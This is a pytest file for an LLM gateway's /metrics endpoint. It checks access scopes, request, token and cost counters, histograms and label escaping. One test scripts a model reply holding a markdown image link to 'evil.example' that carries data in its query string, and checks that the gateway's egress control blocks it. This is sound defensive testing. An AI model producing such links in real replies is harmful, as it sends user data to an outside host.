"""/metrics: who may read it, and that every number agrees with what happened."""

import http.client
import math
import re

import openai
import pytest
from gateway_support import USAGE, Gateway, chunks, message

from seawall.core.errors import InputError
from seawall.gateway.telemetry import registry as registries
from seawall.gateway.telemetry.registry import Counter, Histogram, Registry
from seawall.store.keys import create_key

SAMPLE = re.compile(r'([a-z_]+)(?:\{((?:[a-z0-9_]+="(?:[^"\\]|\\.)*",?)+)\})? (\S+)')
LABEL = re.compile(r'([a-z0-9_]+)="((?:[^"\\]|\\.)*)"')
Samples = dict[tuple[str, tuple[tuple[str, str], ...]], float]


def fetch(gateway: Gateway, key: str | None) -> tuple[int, str, str]:
    connection = http.client.HTTPConnection("127.0.0.1", gateway.port, timeout=10)
    headers = {"authorization": f"Bearer {key}"} if key else {}
    connection.request("GET", "/metrics", headers=headers)
    response = connection.getresponse()
    text = response.read().decode()
    connection.close()
    return response.status, response.headers["content-type"], text


def scrape(gateway: Gateway) -> Samples:
    """Read every sample; a line that is no sample fails."""
    key = create_key(gateway.store, application="shop", function="chat", scopes=("metrics",))[1]
    status, content_type, text = fetch(gateway, key)
    assert status == 200
    assert content_type == registries.CONTENT_TYPE
    samples: Samples = {}
    for line in text.splitlines():
        if line.startswith("# "):
            continue
        match = SAMPLE.fullmatch(line)
        assert match, line
        samples[match[1], tuple(sorted(LABEL.findall(match[2] or "")))] = float(match[3])
    return samples


def value(samples: Samples, metric: str, **labels: str) -> float:
    return samples.get((metric, tuple(sorted(labels.items()))), 0.0)


def test_only_a_key_with_the_scope_reads_metrics(gateway: Gateway) -> None:
    before = len(gateway.exchanges())
    assert fetch(gateway, None)[0] == 401
    assert fetch(gateway, "sw_wrong")[0] == 401
    assert fetch(gateway, gateway.key)[0] == 403, "an application's key opens no metrics"
    scrape(gateway)
    assert len(gateway.exchanges()) == before, "a scrape is no exchange"


def test_an_answered_request_is_counted_once_with_its_tokens(gateway: Gateway) -> None:
    before = scrape(gateway)
    gateway.provider.script = message("Fine.")
    gateway.client().chat.completions.create(
        model="small", messages=[{"role": "user", "content": "How are you?"}]
    )
    after = scrape(gateway)

    def grown(metric: str, **labels: str) -> float:
        return value(after, metric, **labels) - value(before, metric, **labels)

    where = {"function": "chat", "model": "small"}
    assert grown("seawall_requests_total", surface="chat", result="answered", **where) == 1
    assert grown("seawall_tokens_total", direction="input", **where) == 5
    assert grown("seawall_tokens_total", direction="output", **where) == 7
    cost = grown("seawall_cost_total", currency="EUR", **where)
    assert cost == pytest.approx((5 + 2 * 7) / 1e6)
    assert grown("seawall_upstream_responses_total", upstream="main", status="200") == 1
    assert grown("seawall_request_seconds_count", surface="chat", function="chat") == 1
    assert grown("seawall_queue_wait_seconds_count", upstream="main", function="chat") == 1
    assert grown("seawall_guard_seconds_count") >= 2
    assert grown("seawall_parts_total", stage="input", outcome="clean") == 1
    assert grown("seawall_audit_append_seconds_count") == 1
    assert value(after, "seawall_audit_healthy") == 1
    assert value(after, "seawall_queue_running", upstream="main", function="chat") == 0


def test_blocks_findings_and_codes_are_counted(gateway: Gateway) -> None:
    before = scrape(gateway)
    gateway.provider.script = message("![x](https://evil.example/a?d=1)")
    gateway.client().chat.completions.create(
        model="small", messages=[{"role": "user", "content": "Card 4111 1111 1111 1111"}]
    )
    after = scrape(gateway)

    def grown(metric: str, **labels: str) -> float:
        return value(after, metric, **labels) - value(before, metric, **labels)

    assert grown("seawall_control_actions_total", control="CTL-EGRESS", action="block") == 1
    assert grown("seawall_control_actions_total", control="CTL-PII", action="redact") == 1
    assert (
        grown(
            "seawall_findings_total",
            control="CTL-PII", detector="personal-data", action="redact",
        ) == 1
    )  # fmt: skip
    assert (
        grown(
            "seawall_requests_total",
            surface="chat", function="chat", model="small", result="blocked",
        ) == 1
    )  # fmt: skip


def test_streams_and_failures_of_the_provider(gateway: Gateway) -> None:
    before = scrape(gateway)
    ask = {"model": "small", "messages": [{"role": "user", "content": "Hi"}]}
    gateway.provider.script = [*chunks({"content": "Hello"}), USAGE]
    list(gateway.client().chat.completions.create(stream=True, **ask))
    gateway.provider.script, gateway.provider.status = {"error": {}}, 500
    with pytest.raises(openai.InternalServerError):
        gateway.client().chat.completions.create(**ask)
    after = scrape(gateway)

    def grown(metric: str, **labels: str) -> float:
        return value(after, metric, **labels) - value(before, metric, **labels)

    assert grown("seawall_stream_open_seconds_count", surface="chat", function="chat") == 1
    assert grown("seawall_upstream_errors_total", upstream="main", code="upstream_error") == 1
    assert grown("seawall_upstream_responses_total", upstream="main", status="500") == 1
    assert grown("seawall_refusals_total", surface="chat", code="upstream_error") == 1


def test_what_a_guard_cannot_judge_is_counted(
    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    from seawall.guard.engine import GuardEngine

    def crash(*_: object) -> None:
        raise RuntimeError

    before = scrape(gateway)
    monkeypatch.setattr(GuardEngine, "inspect", crash)
    with pytest.raises(openai.BadRequestError):
        gateway.client().chat.completions.create(
            model="small", messages=[{"role": "user", "content": "Hi"}]
        )
    after = scrape(gateway)
    unknown = [value(s, "seawall_unknown_total", detector="guard") for s in (before, after)]
    assert unknown[1] - unknown[0] == 1
    parts = [value(s, "seawall_parts_total", stage="input", outcome="unknown")
             for s in (before, after)]  # fmt: skip
    assert parts[1] - parts[0] == 1


def test_no_label_quotes_a_request(gateway: Gateway) -> None:
    with pytest.raises(openai.APIStatusError):
        gateway.client().chat.completions.create(
            model="secret-marker-model", user="secret-marker-user",
            messages=[{"role": "user", "content": "secret-marker-text"}],
        )  # fmt: skip
    assert not [
        labels for (_, labels), _ in scrape(gateway).items() if "secret-marker" in str(labels)
    ]


def test_a_function_that_the_policy_does_not_name_is_no_label(gateway: Gateway) -> None:
    _, key = create_key(gateway.store, application="shop", function="anybodys-word")
    with pytest.raises(openai.PermissionDeniedError):
        gateway.client(key).models.list()
    samples = scrape(gateway)
    assert "anybodys-word" not in str(samples)
    assert value(samples, "seawall_refusals_total", surface="models", code="unknown_function") >= 1


def test_histograms_are_cumulative_and_end_with_all() -> None:
    histogram = Registry().add(Histogram("took_seconds", "Time.", ("who",), (0.1, 1.0)))
    for number in (0.05, 0.1, 0.5, 7.0):
        histogram.observe(number, "a")
    assert list(histogram.lines()) == [
        'took_seconds_bucket{who="a",le="0.1"} 2',
        'took_seconds_bucket{who="a",le="1"} 3',
        'took_seconds_bucket{who="a",le="+Inf"} 4',
        'took_seconds_sum{who="a"} 7.65',
        'took_seconds_count{who="a"} 4',
    ]
    assert math.isclose(histogram.values[("a",)].total, 7.65)


def test_label_values_are_escaped_and_series_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(registries, "MAX_SERIES", 3)
    counter = Counter("things_total", "Things.", ("name",))
    counter.add('a"b\\c\nd')
    for number in range(10):
        counter.add(f"n{number}")
    lines = list(counter.lines())
    assert lines[0] == r'things_total{name="a\"b\\c\nd"} 1'
    assert lines[-1] == 'things_total{name="(other)"} 8'
    assert len(lines) == 4


def test_names_and_label_counts_are_checked() -> None:
    with pytest.raises(InputError):
        Counter("Bad-Name", "x")
    with pytest.raises(InputError):
        Counter("good_total", "x", ("a", "b")).add("only one")
    registry = Registry()
    registry.add(Counter("twice_total", "x"))
    with pytest.raises(InputError):
        registry.add(Counter("twice_total", "x"))
